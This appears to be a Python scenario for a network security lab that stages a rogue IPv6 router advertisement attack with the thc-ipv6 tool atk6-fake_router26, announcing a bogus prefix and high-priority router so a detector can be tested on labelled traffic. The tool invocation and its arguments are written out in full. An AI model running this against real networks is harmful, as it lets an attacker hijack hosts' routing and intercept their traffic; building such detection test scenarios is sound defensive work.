"""atk6-fake_router26 beside a real router."""

from lab import servers
from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, router = net.inside("attacker"), net.router()
    pc3 = net.inside("pc3")
    net.everyday(lead=0.5)
    servers.router_advertisements(router, "eth0", "fd00:20::/64", "fd00:20::53")
    net.loop(pc3, "rdisc6 -1 -q eth0 || ping -6 -n -c 1 -W 1 ff02::2%eth0", 2.0)
    net.quiet(4)
    link_local = router.run("ip", "-6", "-o", "addr", "show", "dev", "eth0", "scope", "link").stdout.split()
    with net.attack(
        "rogue-router-advertisement",
        by=attacker,
        attackers=[attacker.mac],
        victims=[link_local[3].split("/")[0]],
        frames="ip6 and ip6[6] == 58 and ip6[40] == 134",
    ):
        net.tool(
            attacker,
            *("atk6-fake_router26", "-A", "fd00:bad::/64", "-D", "fd00:bad::1"),
            *("-p", "high", "-i", "1", "-n", "8", "eth0"),
            seconds=10,
        )
    net.quiet(2)


SCENARIO = Scenario(
    name="rogue-router-advertisement-thc",
    about="atk6-fake_router26 announces another prefix and itself as the better router, once a second.",
    detectors=("rogue-router-advertisement",),
    tools={"atk6-fake_router26": "thc-ipv6", "radvd": "radvd"},
    run=run,
    snap_octets=400,
)
